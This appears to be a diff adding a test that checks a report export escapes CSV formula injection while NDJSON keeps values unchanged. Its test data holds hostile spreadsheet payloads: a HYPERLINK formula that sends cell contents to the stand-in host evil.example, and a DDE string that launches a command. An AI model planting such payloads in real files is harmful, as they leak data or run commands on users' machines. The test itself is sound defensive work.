@@ -76,6 +76,33 @@ describe(`report export (${backendName})`, () => {
     expect(text.split('\r\n').filter(Boolean)).toHaveLength(2);
   });
 
+  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection), in CSV only', async () => {
+    const prisma = s.app.db.prisma;
+    const workspace = await prisma.workspace.findUniqueOrThrow({ where: { name: 'export-a' } });
+    const subject = await prisma.subject.create({ data: { workspaceId: workspace.id, kind: 'handle', key: '@mallory' } });
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    await prisma.report.createMany({
+      data: hostile.map((title, i) => ({
+        workspaceId: workspace.id, subjectId: subject.id, eventType: 'observation', outcomeCode: 'spam', severity: 'low',
+        title, summary: i === 0 ? '=1+1' : 'a - b = c', details: '', tags: i === 0 ? ['=x', 'y'] : [], status: i === 0 ? '@open' : '',
+        sharePolicy: 'clear_share', namespace: 'formulas', requestedVisibility: 'workspace', effectiveVisibility: 'workspace', policyNotice: '',
+        createdAt: new Date(Date.parse('2026-02-01T00:00:00Z') - i * 1000), // newest first: the list's order
+      })),
+    });
+    const csv = await (await get('namespace=formulas&format=csv')).text();
+    const lines = csv.split('\r\n').filter(Boolean).slice(1);
+    expect(lines).toHaveLength(hostile.length);
+    // Each hostile title is exported behind a single quote, inside RFC 4180 quoting.
+    hostile.forEach((title, i) => expect(lines[i]).toContain(`,"'${title.replaceAll('"', '""')}",`));
+    expect(lines[0]).toContain(',"handle","\'@mallory",');
+    expect(lines[0]).toContain(',"\'@open",');
+    expect(lines[0]).toContain(',"\'=1+1","\'=x;y",');
+    expect(lines[1]).toContain(',"a - b = c",'); // a sign inside a cell is text already: left as it is
+    // NDJSON is not read by spreadsheets: it keeps every value exactly as stored.
+    const rows = (await (await get('namespace=formulas')).text()).trimEnd().split('\n').map((l) => JSON.parse(l));
+    expect(rows.map((r) => r.title)).toEqual(hostile);
+  });
+
   it('requires a key and refuses invalid filters with field names', async () => {
     expect((await get('namespace=bulk', {})).status).toBe(401);
     const bad = await get('severity=nope&format=csv');
